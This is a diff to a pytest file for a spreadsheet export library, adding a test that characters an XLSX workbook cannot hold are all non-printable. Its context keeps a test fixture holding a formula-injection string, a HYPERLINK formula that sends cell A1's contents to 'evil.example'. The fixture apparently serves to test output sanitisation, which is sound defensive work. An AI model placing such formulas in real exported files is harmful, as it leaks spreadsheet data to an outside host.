@@ -11,7 +11,7 @@ import pytest
 from sheets.batch import BoardResult
 from sheets.payloads import BoardRequest
 from sheets.safety import neutralise
-from sheets.writing import RESULT_COLUMNS, results_csv, results_json, results_xlsx
+from sheets.writing import ILLEGAL_CHARACTERS, RESULT_COLUMNS, results_csv, results_json, results_xlsx
 
 HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
 
@@ -147,6 +147,13 @@ def test_xlsx_drops_characters_excel_cannot_hold():
     d = result(warnings=[{"code": "x", "metric": None, "period": None, "message": "bell\x07here"}])
     book = openpyxl.load_workbook(io.BytesIO(results_xlsx([d])))
     assert book["Warnings"]["F2"].value == "bellhere"
+
+
+def test_printable_text_has_no_character_a_workbook_cannot_hold():
+    """The XLSX writer skips the substitution for text that ``str.isprintable()`` accepts."""
+    every = "".join(map(chr, range(0x110000)))
+    dropped = ILLEGAL_CHARACTERS.findall(every)
+    assert len(dropped) == 29 and not any(c.isprintable() for c in dropped)
 
 
 def test_xlsx_text_stays_text_and_money_keeps_its_pennies():
